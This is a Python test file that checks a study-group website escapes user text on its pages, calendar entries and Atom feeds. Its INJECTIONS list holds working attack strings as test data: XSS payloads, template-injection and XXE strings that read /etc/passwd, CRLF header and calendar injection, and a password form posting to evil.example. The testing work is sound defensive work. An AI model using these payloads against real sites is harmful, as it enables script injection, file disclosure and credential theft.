"""Whatever people write stays text on every page: no element, attribute or address comes from it (J12, P16)."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta
from functools import cache, partial
from itertools import cycle
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from icalendar import Calendar

from adapters.html import ANYBODY, blocks, words
from adapters.web import groups, portfolios
from adapters.web.calendars import calendar
from adapters.web.feeds import feed
from adapters.web.paging import paged
from adapters.web.site import Site, Wish
from bot.cards import card, fields
from bot.ids import ActivityId, GroupId, PersonId, WeekId
from bot.language import Languages
from bot.study.badges import Badge
from bot.study.credit import Named
from bot.study.directory import Entry
from bot.study.groups import Group, GroupState
from bot.study.members import Role
from bot.study.outline import ActivityKind
from bot.study.people import Person
from bot.study.pieces import Answered, Asked, Kept, Part, Reviewed, Work
from bot.study.portfolio import Chapter
from bot.study.progress import Help
from bot.study.public import GroupView, PortfolioView, work_of
from bot.study.publishing import Publication
from bot.study.questions import QuestionState
from bot.study.times import LocalTime
from bot.study.track_record import TrackRecord
from bot.study.weeks import Activity, Task, Week
from bot.text import Code, Emphasis, Link, Mention, Plain, Strong, Text, say
from schedules.clock import MovedClock
from tests.adapters.web.reading import ADDRESS, surprises

NOW = datetime(2027, 1, 12, 12, tzinfo=UTC)
EXAMPLES, TEXTS = 250, 40
"""How often so many texts are drawn: 10,000 together."""

INJECTIONS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "javascript:alert(1)",
    "jAvAsCrIpT:alert(1)//https://x",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    'https://x.example/"onclick="alert(1)',
    "https://x.example/'><script>alert(1)</script>",
    "https://user:password@x.example/",
    "https://x.example\\@evil.example/",
    "//evil.example",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "{{ 7*7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}%s%(x)s{0}{name}",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password>",
    "<math><mtext></p><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;#x3C;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>\u2029",
    "\u202e<\u2066script\u2069>",
    "\ud800\udfff\x00\x0b\x1b[31m\x7f\ufffe",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "BEGIN:VEVENT\r\nUID:evil\r\nEND:VEVENT",
    "x\r\nATTACH:https://evil.example\r\n",
    "x\nSet-Cookie: a=b\n\n<html>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "`${alert(1)}`",
    "\\u003cscript\\u003e",
    "<x" * 60,
    "A" * 4_000,
)
_MARKS = st.sampled_from("<>\"'&;:/\\=`{}%()[]!-#\r\n\t\x00\x0b\u202e\u2028\ufffe aszonclickSCRIPThrefjavascript")
HOSTILE = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(_MARKS, max_size=60),
    st.text(st.characters(), max_size=40),
    st.builds(
        lambda a, b, c: a + b + c, st.text(_MARKS, max_size=8), st.sampled_from(INJECTIONS), st.text(_MARKS, max_size=8)
    ),
)


@cache
def _site() -> Site:
    class Nothing:
        """Has no store: what is asked for comes from the test."""

    return Site(Nothing(), MovedClock(NOW), Languages(), ADDRESS, "Circle")  # type: ignore[arg-type]


def _portfolio(texts: Sequence[str]) -> PortfolioView:
    """Return a portfolio in which every word that somebody chose is hostile, each text in one place at least."""
    turn = cycle(texts)
    some = partial(next, turn)
    many = range(1, len(texts) // 6 + 2)
    part = Part(
        1,
        some(),
        work=tuple(Work(some(), some(), some(), NOW, 3, 2, number, some()) for number in many),
        notes=(Kept(f"https://x.example/{some()}", some(), NOW, True, 1, 13, some(), 1),),
        questions=tuple(Asked(some(), some(), NOW, QuestionState.ACCEPTED, 2, 1, number, some()) for number in many),
        answers=tuple(Answered(some(), NOW, True, False, 1, number, some()) for number in many),
        reviews=tuple(Reviewed(some(), some(), some(), NOW, True, 1, number, some()) for number in many),
    )
    one = Chapter(
        title=some(),
        source=some(),
        starts=NOW,
        ended_at=None,
        facilitators=(some(), some()),
        role=Role.LEARNER,
        joined_at=NOW,
        learning=True,
        goal=some(),
        finished=True,
        done=1,
        required=2,
        criteria=Text((Plain(some()),)),
        recorded_at=NOW,
        help=Help(1, 1, 0, 1, 1, 1, 2, 1, 1),
        points=3,
        parts=(part,),
        group=GroupId(5),
        helped=Named(3, (some(), some())),
        helpers=Named(1, (some(),)),
    )
    person = Person(PersonId(2), some(), NOW)
    return PortfolioView(
        Publication(1, PersonId(2), "a" * 32, NOW),
        person,
        (one,),
        {NOW.date(): 3},
        {one.group: Badge(9, one.group, person.id, some(), 1, NOW)},
    )


def _group(a: str, b: str, c: str, d: str) -> GroupView:
    """Return a group in which every word that somebody chose is hostile."""
    starts = LocalTime(datetime(2027, 1, 18, 18))  # noqa: DTZ001  # a wall clock has no zone
    group = Group(
        GroupId(5), a, "group", GroupState.OPEN, "Europe/Berlin", starts, NOW, starts.date(), description=b, source=c
    )
    week = Week(WeekId(6), group.id, 1, d, starts, NOW + timedelta(days=6))
    task = Task(week, Activity(ActivityId(7), group.id, week.id, 1, ActivityKind.PRACTICE, c), 1)
    leader, learner = Person(PersonId(8), b, NOW), Person(PersonId(9), d, NOW)
    entry = Entry(group, [week], 3, [leader])
    page = Publication(1, leader.id, "group", NOW, group.id, join_link=c)
    return GroupView(
        page, entry, ((leader, TrackRecord()),), {6: (task,)}, (), ((learner, "a" * 32),), 2, timedelta(hours=1)
    )


HARD = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))


@pytest.mark.slow
@HARD
@given(st.lists(HOSTILE, min_size=TEXTS, max_size=TEXTS))
def test_ten_thousand_hostile_texts_stay_text_on_every_page_and_in_every_feed(texts: list[str]) -> None:
    everywhere_safe(texts)


@pytest.mark.parametrize("text", INJECTIONS, ids=[f"{number}" for number, _ in enumerate(INJECTIONS)])
def test_known_injections_stay_text(text: str) -> None:
    everywhere_safe([text] * 4)


def everywhere_safe(texts: Sequence[str]) -> None:
    """Assert that no page, calendar or feed has more in it than without these words."""
    view, group = _portfolio(texts), _group(*texts[:4])
    for page in (*drawn_portfolio(view), drawn_group(group), drawn_directory(group)):
        assert surprises(page) == []
    body, _ = calendar(group, ANYBODY, ADDRESS + "g/group/")
    [event] = Calendar.from_ical(body).walk("VEVENT")
    assert set(event) == {
        "UID", "DTSTAMP", "SEQUENCE", "DTSTART", "DURATION", "SUMMARY", "DESCRIPTION", "URL", "STATUS", "TRANSP"
    }  # fmt: skip
    work = work_of(view)
    body, _ = feed(texts[0], ADDRESS, ADDRESS + "feed.atom", ADDRESS, work, NOW, ANYBODY)
    atom = "{http://www.w3.org/2005/Atom}"
    entries = ElementTree.fromstring(body).findall(f"{atom}entry")
    assert len(entries) == len(work)
    for entry in entries:
        assert {one.tag.removeprefix(atom) for one in entry} == {
            "title", "link", "published", "updated", "author", "id", "content"
        }  # fmt: skip
    contents = "".join(f"<p>{entry.findtext(f'{atom}content')}</p>" for entry in entries)
    assert surprises(f"<!doctype html><title>x</title><body>{contents}</body>".encode()) == []


def drawn_portfolio(view: PortfolioView) -> Iterator[bytes]:
    """Yield the pages of a portfolio."""
    here = f"p/{view.publication.slug}/"
    for number in range(1, len(paged(view.chapters)) + 1):
        shown = portfolios.context(view, number, ANYBODY)
        assert shown is not None
        more = {"here": here, "address": ADDRESS + here, "preview": False, "badges_here": True}
        yield _site().page("portfolio.html", here, ANYBODY, {**shown, **more}, listed=True).body


def drawn_group(view: GroupView) -> bytes:
    """Return the page of a group, asked for with its own title as a zone."""
    more = {"here": "g/group/", "address": ADDRESS + "g/group/", "zones": True, "zone": view.group.title[:60]}
    shown = {**groups.context(view, ANYBODY, NOW), **more, "zone_unknown": True}
    return _site().page("group.html", "g/group/", ANYBODY, shown, listed=True).body


def drawn_directory(view: GroupView) -> bytes:
    """Return the list of groups."""
    shown = groups.directory([(view.publication, view.entry)])
    return _site().page("directory.html", "", ANYBODY, shown, listed=True).body


@pytest.mark.parametrize("text", INJECTIONS, ids=[f"{number}" for number, _ in enumerate(INJECTIONS)])
def test_known_injections_stay_text_in_the_fragments_that_pages_share(text: str) -> None:
    spans = (Plain(text), Strong(text), Emphasis(text), Code(text), Link(text, text), Mention(text))
    drawn = words(Text(spans) + say("Hello, {name}", name=text))
    shown = blocks(card("", text[:200], fields([(text[:100], text[:100])])), ANYBODY)
    page = f"<!doctype html><title>x</title><body>{drawn}{shown}</body>"
    assert surprises(page.encode()) == []


async def test_hostile_addresses_show_nothing_of_themselves(site: Site) -> None:
    for text in INJECTIONS:
        answer = await site.answer(Wish(f"p/{text}/", text, text))
        assert answer.status == 404
        assert surprises(answer.body) == []
        assert b"alert(1)" not in answer.body
